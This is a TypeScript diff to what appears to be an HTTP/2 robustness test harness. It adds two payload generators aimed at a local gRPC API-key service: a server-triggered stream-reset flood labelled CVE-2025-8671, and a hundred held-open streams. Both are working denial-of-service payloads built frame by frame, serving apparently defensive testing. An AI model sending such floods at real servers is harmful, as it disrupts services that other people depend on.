@@ -12,6 +12,8 @@ export const http2Attacks: readonly Attack[] = [
   { name: "http2: broken headers", weight: 8, run: (arena) => send(arena, "http2: broken headers", brokenHeaders(arena)) },
   { name: "http2: HPACK bombs", weight: 3, run: (arena) => send(arena, "http2: HPACK bombs", hpackBomb(arena)) },
   { name: "http2: rapid reset", weight: 3, run: (arena) => send(arena, "http2: rapid reset", rapidReset(arena)) },
+  { name: "http2: resets by the server", weight: 2, run: (arena) => send(arena, "http2: resets by the server", madeReset(arena)) },
+  { name: "http2: open streams", weight: 3, run: (arena) => send(arena, "http2: open streams", openStreams(arena)) },
   { name: "http2: control floods", weight: 3, run: (arena) => send(arena, "http2: control floods", controlFlood(arena.random)) },
 ];
 
@@ -213,6 +215,49 @@ function rapidReset(arena: Arena): Buffer {
       frame(reset, 0, id, cancel),
     ];
   });
+  return Buffer.concat([start, ...streams.flat()]);
+}
+
+/** CVE-2025-8671: streams that the server itself has to reset, because the client breaks a rule on each. */
+function madeReset(arena: Arena): Buffer {
+  const { random } = arena;
+  const block = request(arena);
+  const breaks = random.pick<(id: number) => Buffer>([
+    (id) => frame(windowUpdate, 0, id, Buffer.alloc(4)),
+    (id) => frame(windowUpdate, 0, id, Buffer.from([0x7f, 0xff, 0xff, 0xff])),
+    (id) => frame(headers, flags.endHeaders, id, block),
+  ]);
+  const streams = Array.from({ length: 100 }, (_, index) => [
+    frame(headers, flags.endHeaders, 1 + 2 * index, block),
+    breaks(1 + 2 * index),
+  ]);
+  return Buffer.concat([start, ...streams.flat()]);
+}
+
+/** A hundred streams that stay open: watches of health, reflection that asks for much or for nothing, calls whose body does not come. */
+function openStreams({ random }: Arena): Buffer {
+  const path = random.pick([
+    "/grpc.health.v1.Health/Watch",
+    "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo",
+    "/keywright.v2alpha1.ApiKeysService/GetJwks",
+    "/v2alpha1/apiKeys:selfRevoke",
+  ]);
+  const contentType = random.pick(["application/grpc", "application/grpc-web+proto", "application/connect+proto", "application/json"]);
+  const block = headerBlock([
+    [":method", "POST"],
+    [":scheme", "http"],
+    [":path", path],
+    [":authority", "localhost"],
+    ["content-type", contentType],
+    ["te", "trailers"],
+  ]);
+  const file = Buffer.from("\x00\x00\x00\x00\x27\x22\x25keywright.v2alpha1.ApiKeysService.GetJwks".slice(0, 44), "latin1");
+  const body = random.pick([Buffer.alloc(5), Buffer.alloc(3), Buffer.concat(Array.from({ length: 20 }, () => file))]);
+  const end = random.pick([0, flags.endStream]);
+  const streams = Array.from({ length: 100 }, (_, index) => [
+    frame(headers, flags.endHeaders, 1 + 2 * index, block),
+    frame(data, end, 1 + 2 * index, body),
+  ]);
   return Buffer.concat([start, ...streams.flat()]);
 }
 
